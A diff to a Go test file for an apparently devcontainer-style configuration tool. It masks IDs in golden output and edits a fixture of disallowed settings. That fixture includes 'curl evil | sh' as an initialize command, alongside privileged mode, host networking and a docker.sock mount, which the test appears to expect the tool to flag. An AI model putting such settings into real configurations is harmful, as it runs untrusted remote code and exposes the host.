@@ -33,12 +33,13 @@ func TestPlans(t *testing.T) {
 			if len(plan.ID) != 52 {
 				t.Errorf("the ID is %q", plan.ID)
 			}
+			id := plan.ID[40:] // a part of names
 			plan.ID = ""
 			data, err := json.MarshalIndent(plan, "", "\t")
 			if err != nil {
 				t.Fatal(err)
 			}
-			got := strings.ReplaceAll(string(data), dir, "$DIR") + "\n"
+			got := strings.ReplaceAll(strings.ReplaceAll(string(data), dir, "$DIR"), id, "$ID") + "\n"
 			file := filepath.Join("testdata", c.dir+c.config+".plan.json")
 			if *update {
 				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
@@ -72,7 +73,7 @@ func TestAllProblemsAreNamedAtOnce(t *testing.T) {
 	_, err := Make(Options{LookUp: none, Dir: workspace(t, `{
 		"image": "debian", "initializeCommand": "curl evil | sh", "privileged": true, "capAdd": ["SYS_PTRACE"],
 		"securityOpt": ["seccomp=unconfined"], "runArgs": ["--net=host"], "dockerComposeFile": "compose.yaml",
-		"mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind", "source=cache,target=/cache,type=volume", "type=tmpfs,target=/t"],
+		"mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind", "target=/cache,type=volume", "type=tmpfs,target=/t"],
 		"overrideCommand": false, "hostRequirements": {"gpu": true}, "forwardPorts": ["db:5432"], "surprise": 1,
 		"features": {"https://example.com/f.tgz": {}, "docker": {}}, "containerEnv": {"X": "${containerEnv:Y}"}, "build": {"options": ["--network=host"]}
 	}`)})
